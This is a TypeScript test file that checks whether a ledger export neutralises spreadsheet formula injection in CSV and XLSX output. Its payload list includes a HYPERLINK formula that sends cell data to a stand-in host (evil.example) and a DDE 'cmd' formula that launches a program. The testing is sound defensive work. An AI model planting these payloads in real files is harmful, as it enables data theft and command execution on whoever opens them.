import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type Caller, openStage, type Stage } from '#tests/harness/product.ts'
import { must } from './two-counties.ts'
import { xlsxText } from './workbook-text.ts'

// Text that a spreadsheet would run leaves as text and comes back as it was (OWASP, "CSV Injection").

let stage: Stage
let office: Caller
beforeAll(async () => {
  stage = await openStage()
  office = stage.as('office')
})
afterAll(async () => await stage?.close())

const FORMULAS = [
  `=HYPERLINK("http://evil.example/?q="&A1,"点击")`,
  `=cmd|' /C calc'!A0`,
  `+1+1`,
  `-2+3`,
  `@SUM(1,1)`,
  `＝1+1`,
  `"=1+1`,
  `a,"b"\n=1+1`,
]

describe('exports', () => {
  beforeAll(async () => {
    for (const [index, formula] of FORMULAS.entries()) {
      await must(
        office.post('/api/projects', {
          name: `表格${index}`,
          orgId: stage.orgs.east,
          owner: formula,
          remark: formula,
          scale: formula,
        }),
      )
    }
  })

  test('CSV: no cell begins a formula', async () => {
    const { bytes } = await must(office.get('/api/ledger-export?format=csv'))
    const cells = csvCells(bytes.toString('utf8').replace(/^\ufeff/, ''))
    expect(cells.flat().filter((cell) => /^[=+@\t\r＝＋＠]/.test(cell) || /^-(?![\d.]+$)/.test(cell))).toEqual([])
    expect(cells.flat().join('|')).toContain('HYPERLINK')
  })

  test('workbook: text cells; the only formulas are our own totals', async () => {
    const text = await xlsxText((await must(office.get('/api/ledger-export?format=xlsx'))).bytes)
    expect(text).toContain('HYPERLINK')
    const formulas = [...text.matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map(([, formula]) => formula)
    expect(formulas.length).toBeGreaterThan(0)
    for (const formula of formulas) expect(formula).toMatch(/^SUBTOTAL\(10[39],([A-Z]+)\d+:\1\d+\)$/)
  })

  test.each(['csv', 'xlsx'])('%s: imported again, nothing has changed', async (format) => {
    const { bytes } = await must(office.get(`/api/ledger-export?format=${format}`))
    const { body } = await must(office.upload('/api/imports', `台账.${format}`, bytes))
    expect(body.summary).toEqual({ added: 0, changed: 0, unchanged: FORMULAS.length, missing: 0, rejected: 0 })
  })
})

/** RFC 4180. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r?\n|$)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end !== ',') rows.push([])
  }
  return rows
}
